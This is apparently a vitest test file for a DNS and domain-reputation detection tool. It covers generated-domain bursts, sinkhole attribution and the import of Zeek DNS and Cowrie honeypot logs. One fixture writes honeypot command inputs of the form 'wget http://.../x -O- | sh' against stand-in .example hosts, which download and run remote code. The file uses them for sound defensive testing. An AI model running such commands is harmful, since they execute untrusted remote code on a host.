import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { caltrop, openSystem, type System } from '../../../test/setup/commands.ts';
import { configSchema } from '../../config.ts';
import { silentLog } from '../../kit/log.ts';
import { seeded } from '../../kit/seeded.ts';
import { Graph } from '../../reputation/graph/graph.ts';
import { edgeTypes } from '../../reputation/graph/kinds.ts';
import { knownHostsFile } from '../../reputation/known/known-hosts.ts';
import { openNameModel } from '../../reputation/names/name-model.ts';
import type { Standing } from '../../reputation/rank/standing.ts';
import { packageFolder } from '../../version.ts';
import { createContext } from './context.ts';
import { domainsWorkerEnd } from './worker-end.ts';

const model = openNameModel(readFileSync(packageFolder('models/names.model')));

/** Registered domains of random letters that the model is sure of. */
function generated(count: number): string[] {
  const draw = seeded(5);
  const names: string[] = [];
  while (names.length < count) {
    const label = Array.from({ length: 11 }, () => 'bcdfghjklmnpqrtvwxz'[Math.floor(draw() * 19)]).join('');
    if (model.logit(`${label}.com`) >= 2.5) names.push(`${label}.com`);
  }
  return names;
}

let system: System;
beforeAll(async () => {
  system = await openSystem();
}, 60_000);
afterAll(() => system?.close());

const show = async (name: string) => (await system.ask<Standing>('domains', 'show', name))[0]!;

/** Questions of one client in the last minutes, as Zeek logs them: what was long ago counts for little. */
function zeek(rows: { name: string; rcode: string; answers?: string[]; ttl?: number }[]): string {
  return rows
    .map(({ name, rcode, answers = [], ttl = 300 }, n) =>
      JSON.stringify({
        ...{
          ts: Date.now() / 1_000 - 300 + n,
          uid: `C${n}`,
          'id.orig_h': '198.51.100.7',
          'id.orig_p': 40_000 + n,
        },
        ...{ 'id.resp_h': '198.51.100.53', 'id.resp_p': 53, proto: 'udp', query: name },
        ...{ qtype_name: 'A', rcode_name: rcode, answers, TTLs: answers.map(() => ttl) },
      }),
    )
    .join('\n');
}

it('raises the name that a client found among generated ones, from a log to the reason that is told', {
  timeout: 120_000,
}, async () => {
  const names = generated(21);
  const hit = names.pop()!;
  const log = join(system.folder, 'dns.json');
  writeFileSync(
    log,
    `${zeek([
      { name: 'www.harbour.org', rcode: 'NOERROR', answers: ['203.0.113.20'] },
      ...names.map((name) => ({ name, rcode: 'NXDOMAIN' })),
      { name: hit, rcode: 'NOERROR', answers: ['203.0.113.21'] },
      { name: 'login.microsoft-support.example', rcode: 'NOERROR', answers: ['199.2.137.8'] },
    ])}\n`,
  );
  expect((await system.run('import', '--format', 'zeek-dns', log)).code).toBe(0);
  const found = await show(hit);
  const reason = found.reasons.find(({ says }) => says.includes('20 generated names that do not exist'));
  expect(reason!.points).toBeGreaterThan(10);
  expect(found.near.nodes.some(({ kind }) => kind === 'burst')).toBe(true);
  expect((await show('www.harbour.org')).reasons.some(({ says }) => says.includes('generated names'))).toBe(
    false,
  );
  expect((await show('login.microsoft-support.example')).host).toEqual({
    kind: 'sinkhole',
    who: 'Microsoft',
  });
});

it('says of an address who is there: in the answer of the API, and on the line of why', {
  timeout: 120_000,
}, async () => {
  const bad = ['update.kittens.example', 'cdn.puppies.example'];
  const edges = join(system.folder, 'company.tsv');
  const lines = [...bad, 'www.tulips.example'].map((name) => `${name}\t203.0.113.40`);
  writeFileSync(edges, `domain\tip\n${lines.join('\n')}\n`);
  const cowrie = join(system.folder, 'company.json');
  const head = { src_ip: '192.0.2.7', session: 'cc01', sensor: 'd', protocol: 'ssh' };
  const said = [
    { eventid: 'cowrie.session.connect', src_port: 4, dst_ip: '198.51.100.1', dst_port: 22 },
    { eventid: 'cowrie.login.success', username: 'root', password: 'x' },
    ...bad.map((host) => ({ eventid: 'cowrie.command.input', input: `wget http://${host}/x -O- | sh` })),
    { eventid: 'cowrie.session.closed', duration_ms: 4_000 },
  ];
  writeFileSync(
    cowrie,
    said
      .map(
        (one, n) =>
          `${JSON.stringify({ timestamp: new Date(Date.now() - 60_000 + n).toISOString(), ...head, ...one })}\n`,
      )
      .join(''),
  );
  expect((await system.run('import', '--format', 'edges', edges)).code).toBe(0);
  expect((await system.run('import', '--format', 'cowrie', cowrie)).code).toBe(0);
  system.pipeline.domains.heard();
  await system.pipeline.domains.rank({ limit: 1 });
  const company = '2 of the 3 domains seen at it of late are known to be bad';
  const [answer] = await system.ask<{ hosts: { host: string; company?: string }[] }>('why', '203.0.113.40');
  expect(answer!.hosts[0]).toMatchObject({ host: '203.0.113.40', company });
  expect((await system.run('why', '203.0.113.40')).out).toContain(`; ${company}`);
});

it('joins what decoys saw together, and says where addresses are, as often as it is asked to', () => {
  const graph = new Graph();
  const context = createContext(graph, () => model, { networks: true });
  const sighting = { id: '00000000-0000-8000-8000-000000000001', source: '8.8.8.8', day: 20_000 };
  const decoys = [
    { host: '1.1.1.1', says: 'fetched', day: 20_001, family: 'RedTail', sightings: [sighting] },
    { host: 'drop.example', says: 'fetched', day: 20_001, sightings: [sighting] },
    { host: '', says: 'nonsense', day: 20_001, sightings: [sighting] },
  ];
  for (let round = 0; round < 2; round++) {
    const seeds = context.decoys(decoys, 20_001);
    expect(seeds.map(({ node, family }) => [graph.nodes.text(node), family])).toEqual([
      ['1.1.1.1', 'RedTail'],
      ['drop.example', undefined],
    ]);
    context.look();
    if (round === 0) graph.rebuild(20_001);
  }
  const around = (kind: 'sighting' | 'net', text: string) => {
    const found: string[] = [];
    graph.each(graph.find(kind, text), (other, type) => {
      found.push(`${edgeTypes[type]!.name} ${graph.nodes.text(other)}`);
    });
    return found.sort();
  };
  expect(around('sighting', sighting.id)).toEqual([
    'sighting 1.1.1.1',
    'sighting 8.8.8.8',
    'sighting drop.example',
  ]);
  // Of the installed table: both have announced these for many years.
  expect(around('net', '1.1.1.0/24')).toEqual(['network AS13335', 'subnet 1.1.1.1']);
  expect(around('net', '8.8.8.0/24')).toEqual(['network AS15169', 'subnet 8.8.8.8']);
});

it('tells of a generated name and of a sinkhole as their answers come, without ranking all', async () => {
  const day = 20_500;
  const now = day * 86_400_000 + 3_600_000;
  const folder = mkdtempSync(join(tmpdir(), 'caltrop-took-'));
  const graph = domainsWorkerEnd(
    {
      ...{ data: folder, feeds: configSchema.parse({}).feeds, model: packageFolder('models/names.model') },
      ...{ known: [packageFolder(knownHostsFile)], networks: true, crossed: [] },
    },
    silentLog,
  );
  let time = now;
  const take = (name: string, rcode: string, ip?: string) => {
    const items = ip === undefined ? [] : [{ owner: name, type: 'A', data: ip, ttl: 300 }];
    time += 1_000;
    const asked = { client: '198.51.100.7', time, rcode };
    return graph.ask('take', { answers: [{ name, items, day, asked }] });
  };
  for (let n = 0; n < 300; n++) await take(`www.garden${n}.org`, 'NOERROR', `192.0.2.${n % 200}`);
  await graph.ask('refresh', { now, seeds: [], neverBlock: [] });
  const names = generated(26);
  const hit = names.pop()!;
  for (const name of names) await take(name, 'NXDOMAIN');
  const { crossed, due } = await take(hit, 'NOERROR', '203.0.113.21');
  expect(due).toBe(false);
  expect(crossed).toEqual([expect.objectContaining({ name: hit, class: 'Suspicious' })]);
  // Of those that do not exist none comes over the threshold, and all are ranked by what the burst grew to.
  const rows = await graph.ask('rank', { limit: 26 });
  expect(rows.map(({ score }) => score)).toEqual(rows.map(({ score }) => score).sort((a, b) => b - a));
  expect(rows[1]!.score).toBeLessThan(70);
  await take('www.meadow.org', 'NOERROR', '199.2.137.9');
  expect((await graph.ask('show', { name: 'www.meadow.org' }))!.host?.who).toBe('Microsoft');
  await take('www.meadow.org', 'NOERROR', '203.0.113.30');
  expect((await graph.ask('show', { name: 'www.meadow.org' }))!.host).toBeNull();
  expect(graph.counters.faults).toBe(0);
  await graph.stop();
  rmSync(folder, { recursive: true, force: true });
});

it('tells of a file of hosts that cannot be used at the start', async () => {
  const file = join(system.folder, 'hosts.tsv');
  writeFileSync(file, 'sinkhole\tnothing at all\n');
  const config = join(system.folder, 'known.yaml');
  writeFileSync(config, `reputation:\n  known: [${file}]\n`);
  const ran = await caltrop('import', '--config', config, '--data', join(system.folder, 'other'), file);
  expect(ran.code).toBe(78);
  expect(ran.err).toContain('line 1');
});
